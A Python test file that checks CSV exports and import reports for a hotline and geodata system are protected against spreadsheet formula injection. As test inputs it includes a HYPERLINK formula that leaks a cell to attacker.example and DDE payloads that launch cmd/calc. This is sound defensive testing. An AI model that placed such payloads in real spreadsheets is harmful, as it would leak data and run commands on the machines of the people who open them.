"""CSV for people (issue 15, item 9): a handler's note or a row's id written into the
12345 export or an import report as `=HYPERLINK(...)` comes out as text, not a live
formula; numbers written as numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from gis.spreadsheet_csv import FORMULA_STARTS, spreadsheet_cell
from grid.importing.regions import RegionImportReport
from grid.importing.report import ImportReport, RowIssue
from interop.hotline.orders_in import HotlineImportReport
from interop.hotline.results_export import COLUMNS, HotlineExport
from tests.factories import auth_headers
from tests.test_hotline import _act, _csv, _incident, _row, scene  # noqa: F401

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A2,"查看详情")'


def _live_formulas(table: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run as formulas."""
    return [cell for row in table for cell in row if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_gets_an_apostrophe(start):
    assert spreadsheet_cell(f"{start}1+1") == f"'{start}1+1"


def test_numbers_and_plain_text_are_left_alone():
    # Numbers written as numbers (a negative difference, a score) are data to Excel.
    assert [spreadsheet_cell(v) for v in (-3, -2.5, 5, True, None)] == [-3, -2.5, 5, True, None]
    assert spreadsheet_cell("先烈路165号 =1") == "先烈路165号 =1"
    # Text that looks like a number is not trusted: it may be "-1+cmd|...".
    assert spreadsheet_cell("-1") == "'-1"


async def test_a_formula_in_a_handlers_note_is_text_in_the_12345_export(
    client,
    db,
    settings,
    scene,  # noqa: F811
):
    _world, users = scene
    admin = auth_headers(users["admin"], settings)
    response = await client.post(
        "/admin/hotline/imports",
        headers=admin,
        files={"file": ("工单.csv", _csv([_row("GD0901")]), "text/csv")},
    )
    assert response.status_code == 200, response.text
    number = (await _incident(db, "GD0901"))["tracking_number"]
    await _act(client, settings, users["w_a1"], number, "accept")
    await _act(client, settings, users["w_a1"], number, "resolve", note=HYPERLINK)
    await _act(client, settings, users["cm_a"], number, "close")

    exported = await client.post("/admin/hotline/exports?format=csv", headers=admin)
    assert exported.status_code == 200, exported.text
    table = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    row = dict(zip(table[0], table[1], strict=True))
    assert row["办理结果"] == "'" + HYPERLINK
    assert _live_formulas(table) == []


def test_the_export_keeps_numeric_columns_numeric():
    order = dict.fromkeys(COLUMNS, "") | {
        "order_number": "GD1",
        "handling_result": "@SUM(1+1)*cmd|' /C calc'!A0",
        "satisfaction_score": -1,
        "overdue": False,
    }
    table = list(
        csv.reader(
            io.StringIO(HotlineExport(datetime.now(UTC), [order]).to_csv().decode("utf-8-sig"))
        )
    )
    row = dict(zip(table[0], table[1], strict=True))
    assert row["满意度评分"] == "-1" and row["是否超期"] == "否"
    assert row["办理结果"].startswith("'@")


@pytest.mark.parametrize(
    "report",
    [
        ImportReport("buildings", "b.gpkg"),
        RegionImportReport("regions", "r.gpkg"),
        HotlineImportReport("hotline", "o.csv"),
    ],
)
def test_a_formula_in_a_rejected_rows_id_is_text_in_the_import_report(report, tmp_path):
    report.rejected.append(RowIssue(3, HYPERLINK, "external_id", "+cmd|' /C calc'!A0"))
    if isinstance(report, RegionImportReport):
        report.outside_parent.append(RowIssue(4, "-2+3", "geometry", "\tsticks out"))
    path = tmp_path / "report.csv"
    report.write(path)
    table = list(csv.reader(path.open(encoding="utf-8-sig", newline="")))
    assert table[1][2:5] == ["'" + HYPERLINK, "external_id", "'+cmd|' /C calc'!A0"]
    assert table[1][1] == "3"
    assert _live_formulas(table) == []
